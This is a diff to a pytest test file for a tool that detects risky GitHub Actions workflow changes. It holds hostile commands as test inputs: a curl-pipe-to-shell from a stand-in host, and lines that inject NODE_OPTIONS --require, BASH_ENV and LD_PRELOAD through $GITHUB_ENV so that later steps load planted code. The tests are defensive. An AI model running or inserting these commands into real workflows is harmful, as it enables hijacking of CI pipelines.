@@ -6,6 +6,7 @@ from changing import changed, seen, shown
 
 PATH = ".github/workflows/kiln.yml"
 FETCH = "curl -s https://kiln.example/fire | sh"
+LATER = "on: push\njobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          %s\n"
 HEAD = "on: push\n{}jobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
 
 
@@ -52,3 +53,20 @@ def test_a_variable_that_loads_code_is_new_in_ci(name, value):
 )
 def test_ordinary_shells_and_options_show_nothing(top):
     assert not shown(changed(PATH, None, HEAD.format(top)))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'echo "NODE_OPTIONS=--require=$PWD/docs/glaze.js" >> $GITHUB_ENV',
+        'echo BASH_ENV=docs/glaze.sh >> "$GITHUB_ENV"',
+        "echo 'LD_PRELOAD=./glaze.so' | tee -a ${GITHUB_ENV}",
+    ],
+)
+def test_a_variable_that_is_set_for_later_steps_counts_as_one_that_the_file_sets(command):
+    assert ("workflow_new_action", 7) in {(o.capability, o.line) for o in seen(changed(PATH, None, LATER % command))}
+
+
+def test_an_ordinary_variable_that_is_set_for_later_steps_is_quiet():
+    command = 'echo "NODE_OPTIONS=--max-old-space-size=4096" >> $GITHUB_ENV; echo "POTS=$PWD/pots" >> $GITHUB_ENV'
+    assert "workflow_new_action" not in shown(changed(PATH, None, LATER % command))
